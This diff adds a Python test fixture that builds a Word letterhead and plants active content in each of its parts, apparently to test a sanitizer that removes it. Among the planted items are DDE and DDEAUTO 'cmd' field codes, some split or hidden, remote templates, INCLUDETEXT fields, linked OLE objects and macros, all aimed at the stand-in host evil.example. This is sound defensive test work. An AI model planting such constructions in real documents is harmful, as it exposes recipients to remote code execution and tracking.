@@ -1,0 +1,417 @@
+"""A school's Word file with active content planted in any of its parts, made by code."""
+
+from __future__ import annotations
+
+import io
+import posixpath
+import re
+import zipfile
+from collections.abc import Mapping, Sequence
+from functools import cache
+from typing import NamedTuple
+from xml.sax.saxutils import escape, quoteattr
+
+import docx
+
+from tests.reports.documents.documents import png
+
+EVIL = "http://evil.example/x"
+SCHOOL = "Oak Street School"
+KEPT = "words that stay"
+_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_MS = "http://schemas.microsoft.com/office"
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+NAMESPACES = (
+    f'{_W} xmlns:r="{_OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" '
+    'xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
+    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
+    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+)
+BUILDING_BLOCK = "<w:docPart><w:docPartBody><w:p></w:p></w:docPartBody></w:docPart>"
+_PACKAGE = b' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+_TYPES = "[Content_Types].xml"
+WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
+STORIES = (
+    "document",
+    "header1",
+    "header2",
+    "footer1",
+    "footnotes",
+    "endnotes",
+    "comments",
+    "glossary/document",
+)
+"""Parts that hold paragraphs."""
+
+
+class Link(NamedTuple):
+    """A relationship. type: its last word, or all of it. is_outside: the target is no part of the file."""
+
+    id: str
+    type: str
+    target: str
+    is_outside: bool = False
+
+
+class Planted(NamedTuple):
+    """Active content. xml: in a paragraph. parts: with their types. names: what is named when it is removed."""
+
+    xml: str
+    names: str
+    links: Sequence[Link] = ()
+    parts: Mapping[str, tuple[str, bytes]] = {}
+
+
+def run(content: str) -> str:
+    return f"<w:r>{content}</w:r>"
+
+
+def mark(kind: str) -> str:
+    return run(f'<w:fldChar w:fldCharType="{kind}"/>')
+
+
+def codes(*pieces: str) -> str:
+    return "".join(
+        run(f'<w:instrText xml:space="preserve">{escape(piece)}</w:instrText>') for piece in pieces
+    )
+
+
+def shown(text: str) -> str:
+    return run(f"<w:t>{text}</w:t>")
+
+
+def complex_field(code: str, text: str = KEPT) -> str:
+    """code: runs, from `codes` or with other fields in them."""
+    return mark("begin") + code + mark("separate") + shown(text) + mark("end")
+
+
+def simple_field(code: str, text: str = KEPT) -> str:
+    return f"<w:fldSimple w:instr={quoteattr(code)}>{shown(text)}</w:fldSimple>"
+
+
+def picture(blip: str, properties: str = "") -> str:
+    return run(
+        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
+        f'<wp:docPr id="9" name="p">{properties}</wp:docPr><a:graphic>'
+        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
+        '<pic:nvPicPr><pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
+        f"<pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
+        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm>'
+        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
+        "</wp:inline></w:drawing>"
+    )
+
+
+def shape(content: str = "", attributes: str = "") -> str:
+    return run(f'<w:pict><v:shape style="width:9pt;height:9pt" {attributes}>{content}</v:shape></w:pict>')
+
+
+def graphic(uri: str, content: str) -> str:
+    return run(
+        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="9" name="g"/>'
+        f'<a:graphic><a:graphicData uri="{uri}">{content}</a:graphicData></a:graphic></wp:inline></w:drawing>'
+    )
+
+
+def inside(name: str) -> dict[str, tuple[str, bytes]]:
+    """A picture in the file."""
+    return {f"word/media/{name}": ("image/png", png(3, 3))}
+
+
+BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
+CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
+SVG_BLIP = 'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
+IN_STORIES = {
+    "DDEAUTO in pieces": Planted(complex_field(codes(" DD", "EAU", f'TO cmd "{EVIL}" ')), "DDEAUTO"),
+    "DDE": Planted(simple_field(f'dde cmd "{EVIL}"'), "DDE"),
+    "INCLUDETEXT": Planted(complex_field(codes(f' INCLUDETEXT "{EVIL}" ')), "INCLUDETEXT"),
+    "INCLUDEPICTURE": Planted(simple_field(f' INCLUDEPICTURE "{EVIL}" \\d '), "INCLUDEPICTURE"),
+    "quoted name": Planted(complex_field(codes(f' "INCLUDETEXT" "{EVIL}"')), "INCLUDETEXT"),
+    "DATE": Planted(complex_field(codes(' DATE \\@ "d MMMM yyyy" ')), "DATE"),
+    "DATE, simple": Planted(simple_field("DATE"), "DATE"),
+    "HYPERLINK": Planted(complex_field(codes(f' HYPERLINK "{EVIL}" \\l "a" ')), "HYPERLINK"),
+    "a field in a result": Planted(
+        mark("begin")
+        + codes(" REF a \\h ")
+        + mark("separate")
+        + complex_field(codes(f"DDE cmd {EVIL}"))
+        + mark("end"),
+        "DDE",
+    ),
+    "a code made by a field": Planted(
+        complex_field(codes(" TOC ") + complex_field(codes(f'INCLUDETEXT "{EVIL}"'), "gone")), "TOC"
+    ),
+    "a code with text": Planted(complex_field(codes(" PAGE ") + shown(EVIL)), "PAGE"),
+    "a code that one reader takes": Planted(
+        complex_field(
+            run(
+                "<mc:AlternateContent><mc:Choice Requires='w'><w:instrText>PAGE </w:instrText></mc:Choice>"
+                f"<mc:Fallback><w:instrText>DDE cmd {EVIL}</w:instrText></mc:Fallback></mc:AlternateContent>"
+            )
+        ),
+        "",
+    ),
+    "a field that one reader takes": Planted(
+        "".join(
+            run(f"<mc:AlternateContent><mc:Choice Requires='w'>{one}</mc:Choice></mc:AlternateContent>")
+            for one in (BEGIN, f"<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>", END)
+        ),
+        "DDEAUTO",
+    ),
+    "a field in a formula": Planted(
+        f"<m:oMath><m:r>{BEGIN}<w:instrText>DDEAUTO cmd {EVIL}</w:instrText>{END}</m:r></m:oMath>",
+        "DDEAUTO",
+    ),
+    "a deleted code": Planted(
+        complex_field(run(f"<w:delInstrText>INCLUDETEXT {EVIL}</w:delInstrText>")), "INCLUDETEXT"
+    ),
+    "a code without an end": Planted(mark("begin") + codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
+    "a code without a field": Planted(codes(f"DDEAUTO cmd {EVIL}") + shown(KEPT), "DDEAUTO"),
+    "a form with a macro": Planted(
+        run(
+            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>'
+        )
+        + codes(" FORMTEXT ")
+        + mark("separate")
+        + shown(KEPT)
+        + mark("end"),
+        "FORMTEXT",
+    ),
+    "a page number with a macro": Planted(
+        run(
+            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>'
+        )
+        + codes(" PAGE ")
+        + mark("separate")
+        + shown(KEPT)
+        + mark("end"),
+        "the data of a form",
+    ),
+    "a link": Planted(
+        f'<w:hyperlink r:id="e1">{shown(KEPT)}</w:hyperlink>', EVIL, (Link("e1", "hyperlink", EVIL, True),)
+    ),
+    "a link by its location": Planted(
+        f'<w:hyperlink w:docLocation="{EVIL}">{shown(KEPT)}</w:hyperlink>', EVIL
+    ),
+    "an outside picture": Planted(picture('<a:blip r:link="e1"/>'), EVIL, (Link("e1", "image", EVIL, True),)),
+    "a picture kept in the file and outside": Planted(
+        picture('<a:blip r:embed="e2" r:link="e1"/>'),
+        EVIL,
+        (Link("e1", "image", EVIL, True), Link("e2", "image", "media/kept.png")),
+        inside("kept.png"),
+    ),
+    "an outside picture in an old shape": Planted(
+        shape('<v:imagedata r:href="e1"/>'), EVIL, (Link("e1", "image", EVIL, True),)
+    ),
+    "a picture of an old shape by its address": Planted(shape(f'<v:imagedata src="{EVIL}"/>'), EVIL),
+    "an old shape that is a link": Planted(shape(attributes=f'href="{EVIL}"'), EVIL),
+    "a picture that is a link": Planted(
+        picture('<a:blip r:embed="e2"/>', '<a:hlinkClick r:id="e1"/>'),
+        EVIL,
+        (Link("e1", "hyperlink", EVIL, True), Link("e2", "image", "media/kept.png")),
+        inside("kept.png"),
+    ),
+    "a picture with an action": Planted(
+        picture('<a:blip r:embed="e2"/>', '<a:hlinkClick r:id="" action="ppaction://program"/>'),
+        "an action of a picture",
+        (Link("e2", "image", "media/kept.png"),),
+        inside("kept.png"),
+    ),
+    "a picture with a drawing by commands": Planted(
+        picture(
+            f'<a:blip r:embed="e2"><a:extLst><a:ext uri="u"><asvg:svgBlip {SVG_BLIP} r:embed="e1"/></a:ext></a:extLst></a:blip>'
+        ),
+        "x.svg",
+        (Link("e1", "image", "media/x.svg"), Link("e2", "image", "media/kept.png")),
+        {**inside("kept.png"), "word/media/x.svg": ("image/svg+xml", f'<svg href="{EVIL}"/>'.encode())},
+    ),
+    "a video": Planted(
+        picture(
+            '<a:blip r:embed="e2"/>',
+            f'<a:extLst><a:ext uri="u"><v15:webVideoPr xmlns:v15="{_MS}/word/2012/wordprocessingDrawing" '
+            f'embeddedHtml="{EVIL}"/></a:ext></a:extLst>',
+        ),
+        "a video",
+        (Link("e2", "image", "media/kept.png"),),
+        inside("kept.png"),
+    ),
+    "an OLE object": Planted(
+        run(
+            '<w:object><v:shape><v:imagedata r:id="e2"/></v:shape>'
+            '<o:OLEObject Type="Embed" ProgID="Package" r:id="e1"/></w:object>'
+        ),
+        "an OLE object",
+        (Link("e1", "oleObject", "embeddings/x.bin"), Link("e2", "image", "media/preview.png")),
+        {"word/embeddings/x.bin": ("application/vnd.openxmlformats-officedocument.oleObject", EVIL.encode())}
+        | inside("preview.png"),
+    ),
+    "a linked OLE object": Planted(
+        run('<w:object><o:OLEObject Type="Link" r:id="e1" UpdateMode="Always"/></w:object>'),
+        "an OLE object outside",
+        (Link("e1", "oleObject", EVIL, True),),
+    ),
+    "an ActiveX control": Planted(
+        run('<w:pict><v:shape/><w:control r:id="e1" w:name="x"/></w:pict>'),
+        "an ActiveX control",
+        (Link("e1", "control", "activeX/activeX1.xml"),),
+        {"word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml", EVIL.encode())},
+    ),
+    "a chart": Planted(
+        graphic(CHART, f'<c:chart xmlns:c="{CHART}" r:id="e1"/>'),
+        "a chart",
+        (Link("e1", "chart", "charts/chart1.xml"),),
+        {"word/charts/chart1.xml": ("application/x", EVIL.encode())},
+    ),
+    "a web extension": Planted(
+        graphic(f"{_MS}/webextensions/webextension/2010/11", f"<x:evil xmlns:x='{EVIL}'/>"),
+        "a drawing of another program",
+    ),
+    "a fill of no known kind": Planted(run(f'<x:fill xmlns:x="{EVIL}"/>'), '"fill"'),
+    "an element of no known kind": Planted(run(f'<x:evil xmlns:x="{EVIL}"/>'), "evil"),
+}
+"""What can stand in a paragraph, in any story."""
+IN_TEXT = {
+    "an inserted file": Planted(
+        '</w:p><w:altChunk r:id="e1"/><w:p>',
+        "an inserted file",
+        (Link("e1", "aFChunk", "afchunk.htm"),),
+        {"word/afchunk.htm": ("text/html", EVIL.encode())},
+    ),
+    "an inserted document": Planted(
+        '<w:subDoc r:id="e1"/>', "an inserted document", (Link("e1", "subDocument", EVIL, True),)
+    ),
+}
+"""What can stand in the text alone."""
+IN_PARTS = {
+    "an attached template": (
+        "settings",
+        Planted(
+            '<w:attachedTemplate r:id="e1"/>',
+            "an attached template",
+            (Link("e1", "attachedTemplate", EVIL, True),),
+        ),
+    ),
+    "mail merge": (
+        "settings",
+        Planted(f'<w:mailMerge><w:connectString w:val="{EVIL}"/></w:mailMerge>', "mail merge"),
+    ),
+    "a picture in the theme": (
+        "theme/theme1",
+        Planted('<a:blip r:link="e1"/>', "a picture outside", (Link("e1", "image", EVIL, True),)),
+    ),
+    "macros": (
+        "document",
+        Planted(
+            "",
+            "macros",
+            (Link("e1", "vbaProject", "vbaProject.bin"),),
+            {"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", EVIL.encode())},
+        ),
+    ),
+    "a ribbon": (
+        "",
+        Planted(
+            "",
+            "the whole file: removed a ribbon",
+            (Link("e1", "extensibility", "customUI.xml"),),
+            {"word/customUI.xml": ("application/xml", EVIL.encode())},
+        ),
+    ),
+    "a base of addresses": (
+        "../docProps/app",
+        Planted(f"<HyperlinkBase>{EVIL}</HyperlinkBase>", "a base for links"),
+    ),
+}
+"""What stands in other parts, or in none: by the part."""
+
+
+def plant(content: bytes, part: str, planted: Planted) -> bytes:
+    """A file with active content in the last paragraph of a part, or at its end. part: empty for the whole file."""
+    with zipfile.ZipFile(io.BytesIO(content)) as packed:
+        parts = {name: packed.read(name) for name in packed.namelist()}
+    name = posixpath.normpath(f"word/{part}.xml") if part else ""
+    folder, file = posixpath.split(name)
+    place = posixpath.join(folder, "_rels", f"{file}.rels")
+    rels = parts.get(place, b"<Relationships></Relationships>".replace(b">", _PACKAGE, 1))
+    own = f"e{len(rels)}"
+    added = "".join(
+        f'<Relationship Id="{own}{one.id}" Type="{_OFFICE}/{one.type}" '
+        + (
+            f'Target="{one.target}" TargetMode="External"/>'
+            if one.is_outside
+            else f'Target="/word/{one.target}"/>'
+        )
+        for one in planted.links
+    )
+    if added:
+        parts[place] = rels.replace(b"</Relationships>", f"{added}</Relationships>".encode())
+    if name:
+        parts[name] = _insert(parts[name].decode(), re.sub('"(e[12])"', rf'"{own}\1"', planted.xml)).encode()
+    types = "".join(
+        f'<Override PartName="/{one}" ContentType="{kind}"/>' for one, (kind, _) in planted.parts.items()
+    )
+    parts[_TYPES] = parts[_TYPES].replace(b"</Types>", f"{types}</Types>".encode())
+    parts |= {one: data for one, (_, data) in planted.parts.items()}
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w") as packed:
+        for one, data in parts.items():
+            packed.writestr(one, data)
+    return written.getvalue()
+
+
+def _insert(text: str, xml: str) -> str:
+    """Puts elements into a part, and declares the namespaces that it lacks."""
+    root = re.search(r"<[^?!][^>]*>", text)
+    assert root is not None
+    missing = [one for one in NAMESPACES.split(" ") if f"{one.partition('=')[0]}=" not in root[0]]
+    text = text.replace(root[0], f"{root[0][:-1]} {' '.join(missing)}>", 1)
+    end = text.rindex("</w:p>") if "</w:p>" in text else text.rindex("</")
+    return text[:end] + xml + text[end:]
+
+
+@cache
+def letterhead() -> bytes:
+    """A harmless file with every story: a letterhead with a picture and a page number, notes, a comment, and building blocks."""
+    document = docx.Document()
+    first = document.sections[0]
+    first.different_first_page_header_footer = True
+    first.first_page_header.paragraphs[0].add_run(SCHOOL).add_picture(io.BytesIO(png(20, 10)))
+    first.header.paragraphs[0].text = SCHOOL
+    first.footer.paragraphs[0].text = SCHOOL
+    document.add_comment(document.add_paragraph("a letter").runs[0], "a comment", "author")
+    written = io.BytesIO()
+    document.save(written)
+    content = plant(
+        written.getvalue(), "footer1", Planted(complex_field(codes(" PAGE ", "\\* Arabic "), "1"), "")
+    )
+    for kind, name, inner in (
+        ("footnotes", "footnotes", '<w:footnote w:id="2"><w:p></w:p></w:footnote>'),
+        ("endnotes", "endnotes", '<w:endnote w:id="2"><w:p></w:p></w:endnote>'),
+        ("glossaryDocument", "glossary/document", f"<w:docParts>{BUILDING_BLOCK}</w:docParts>"),
+    ):
+        part = (
+            f"{WML}.{name.replace('glossary/document', 'document.glossary')}+xml",
+            f"<w:{kind} {_W}>{inner}</w:{kind}>",
+        )
+        link = Link(kind, kind, f"{name}.xml")
+        content = plant(
+            content, "document", Planted("", "", (link,), {f"word/{name}.xml": (part[0], part[1].encode())})
+        )
+    return content
+
+
+@cache
+def planted_everywhere() -> bytes:
+    """The letterhead with all of it in all of its parts."""
+    content = letterhead()
+    for one in IN_STORIES.values():
+        for story in STORIES:
+            content = plant(content, story, one)
+    for one in IN_TEXT.values():
+        content = plant(content, "document", one)
+    for part, one in IN_PARTS.values():
+        content = plant(content, part, one)
+    return content
